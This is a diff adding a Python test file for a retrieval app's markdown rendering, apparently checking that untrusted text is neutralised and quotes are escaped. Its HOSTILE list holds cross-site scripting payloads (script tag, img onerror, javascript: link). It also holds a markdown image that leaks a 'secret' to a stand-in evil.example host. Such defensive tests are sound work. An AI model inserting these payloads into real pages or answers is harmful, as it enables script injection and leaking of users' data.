@@ -1,0 +1,64 @@
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from rag_app.rendering import answer_markdown, inert, marked_html
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "![x](https://evil.example/?q=secret)",
+    "[click](javascript:alert(1))",
+    "<img src=x onerror=alert(1)>",
+    "https://evil.example/steal?x=1 www.evil.example",
+    "`code` **bold** # heading\n# heading\n- list\n1. item\n> quote\n| a | b |\n|---|---|",
+    "$$\\LaTeX$$ :red[text] :material/home: ~~gone~~",
+    "    indented code",
+    "&lt;b&gt; &#60;i&#62;",
+    "<!-- hidden -->",
+]
+
+
+def rendered(markdown: str) -> str:
+    return MarkdownIt("gfm-like", {"linkify": False, "html": True}).render(markdown)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_text_does_nothing(text: str):
+    html = rendered(inert(text))
+    for tag in (
+        "<script",
+        "<img",
+        "<a ",
+        "<code",
+        "<strong",
+        "<h1",
+        "<li",
+        "<table",
+        "<s>",
+        "<!--",
+    ):
+        assert tag not in html
+
+
+@given(st.text(alphabet="ab<>[]()!*_`#$:|~-+.\\&;=/ \n", max_size=60))
+def test_what_is_shown_is_what_was_written(text: str):
+    from html.parser import HTMLParser
+
+    shown: list[str] = []
+    parser = HTMLParser(convert_charrefs=True)
+    parser.handle_data = shown.append  # type: ignore[method-assign]
+    parser.feed(rendered(inert(text)))
+    parser.close()
+    assert "".join("".join(shown).split()) == "".join(text.split())
+
+
+def test_citation_numbers_stand_out():
+    assert "<strong>[1]</strong>" in rendered(answer_markdown("It rained. [1]"))
+
+
+def test_the_quote_is_marked_and_all_else_escaped():
+    page = "before <b>quote</b> after"
+    html = marked_html(page, 7, 19)
+    assert '<mark id="quote">&lt;b&gt;quote&lt;/b&gt;</mark>' in html
+    assert "<b>" not in html
